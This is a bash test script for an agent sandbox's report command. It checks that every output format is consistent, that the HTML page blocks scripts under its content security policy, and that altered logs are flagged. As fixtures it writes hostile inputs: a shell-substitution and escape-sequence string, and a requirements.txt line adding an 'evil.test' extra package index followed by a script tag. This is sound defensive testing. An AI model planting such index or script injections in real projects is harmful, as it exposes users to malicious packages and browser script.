#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# The report of a task: every format says the same, and nothing that a task did can break one.

. "$(dirname "$0")/lib.sh"
world "$0" "$@"
workspace
git init -q .

run "$AGENTBOX" report
is "no task yet: status" "$status" 1
has "no task yet: said" "$err" "no task was recorded yet"
run "$AGENTBOX" report --format pdf
is "no such format: status" "$status" 2

profile online '[profile]' 'extends = default' '[egress]' 'allow = allowed.test'
nasty='<b>|`$(x)`&amp;"'"'"$'\033[31m\uffff'
box online sh -c 'curl -s -m 2 http://refused.test/; echo "left-pad==1.0" >requirements.txt
	echo "--extra-index-url https://evil.test/\"<script>alert(1)</script>" >>requirements.txt
	mkdir -p "$1"; echo "x==1" >"$1/requirements.txt"; echo all: >Makefile; exit 3' sh "$nasty"
is "the task" "$status" 3
has "one line at its end" "$err" "agentbox: 2 packages added in "
has "which says where more is" "$err" "; agentbox report $(basename "$(latest_task)")"
run "$AGENTBOX" exec -q -p online -- sh -c 'curl -s -m 2 http://refused.test/'
is "none with -q" "$err" ""

first=$(find "$HOME/.local/state/agentbox/tasks" -mindepth 1 -maxdepth 1 -printf '%f\n' | sort | head -n 1)
for format in text json markdown html sarif junit; do
	run "$AGENTBOX" report --format "$format" "$first"
	is "$format: status" "$status" 0
	cp "$scratch/out" "report.$format"
	lacks "$format: no escape sequence" "$out" $'\033'
	run "$AGENTBOX" report --format "$format" "$first"
	is "$format: the same again" "$out" "$(<"report.$format")"
done
text=$(<report.text)
has "text: how it ended" "$text" "ended with status 3"
has "text: what was refused" "$text" "allow = refused.test"
has "text: the finding" "$text" "new instruction: --extra-index-url"
has "text: the Makefile" "$text" "Makefile: add"
is "json: is JSON, with the same" \
	"$(jq -r '.exit, .log_intact, .hosts[0].host, (.sections.denied | length > 0), .sections.build[0].file' report.json)" \
	$'3\ntrue\nrefused.test\ntrue\nMakefile'
is "sarif: its version, and a place" \
	"$(jq -r '.version, ([.runs[0].results[] | select(.ruleId == "build.change")][0].locations[0].physicalLocation.artifactLocation.uri)' report.sarif)" \
	$'2.1.0\nMakefile'
ok "junit: as its schema has it, and counts what failed" python3 "$here/documents.py" junit report.junit

# --- the page ---
page=$(<report.html)
lacks "html: no script" "${page,,}" "<script"
lacks "html: no markup of the task's" "$page" "<b>|"
has "html: the style sheet's hash is in its policy" "$page" \
	"style-src 'sha256-$(sed -n 's/.*<style>\(.*\)<\/style>.*/\1/p' report.html | tr -d '\n' |
		openssl dgst -sha256 -binary | base64)'"
has "html: dark as well" "$page" "prefers-color-scheme:dark"
for landmark in '<header>' '<nav aria-label=' '<main id="main">' '<footer' '<th scope="row">' '<caption>' 'href="#main"' '<h1>'; do
	has "html: for who cannot see it: ${landmark//#/}" "$page" "$landmark"
done
ok "html: every element is closed" python3 - report.html <<'END'
import sys
from html.parser import HTMLParser

VOID = {"meta", "link", "br", "input", "hr"}
stack = []


class Page(HTMLParser):
    def handle_starttag(self, tag, attrs):
        if tag not in VOID:
            stack.append(tag)
        for name, value in attrs:
            assert not name.startswith("on") and name != "style", (tag, name)
            assert name not in ("src", "href") or value.startswith("#"), value

    def handle_endtag(self, tag):
        assert stack and stack.pop() == tag, (tag, stack)


Page().feed(open(sys.argv[1], encoding="utf-8").read())
assert not stack, stack
END

# browse FILE: has a browser show it; $err is what it complains about.
browse() {
	run "$browser" --headless --no-sandbox --disable-gpu --user-data-dir="$scratch/browser" --enable-logging=stderr \
		--window-size=400,4000 --screenshot="$scratch/page.png" "file://$PWD/$1"
}
browser=$(command -v chromium)
if [ -n "$browser" ]; then
	browse report.html
	ok "html: a browser shows it" test -s "$scratch/page.png"
	lacks "html: and its policy is kept" "$err" "Content Security Policy"
	sed 's,</main>,<script>1</script></main>,' report.html >evil.html
	browse evil.html
	has "html: which would refuse a script" "$err" "Content Security Policy"
else
	skip "html: in a browser" "there is no chromium"
fi

# --- a log that is not intact says so ---
log=$HOME/.local/state/agentbox/tasks/$first/events.jsonl
cp "$log" "$scratch/log"
sed -i '$d' "$log"
for format in text markdown html json; do
	run "$AGENTBOX" report --format "$format" "$first"
	has "$format: one that was cut off" "${out,,}" "$([ $format = json ] && echo '"log_intact": false' || echo 'not intact')"
done
cp "$scratch/log" "$log"
sed -i '0,/"verdict":"deny"/s//"verdict":"allow"/' "$log"
for format in text markdown html; do
	run "$AGENTBOX" report --format "$format" "$first"
	has "$format: an altered log" "${out,,}" "not intact"
done
finish
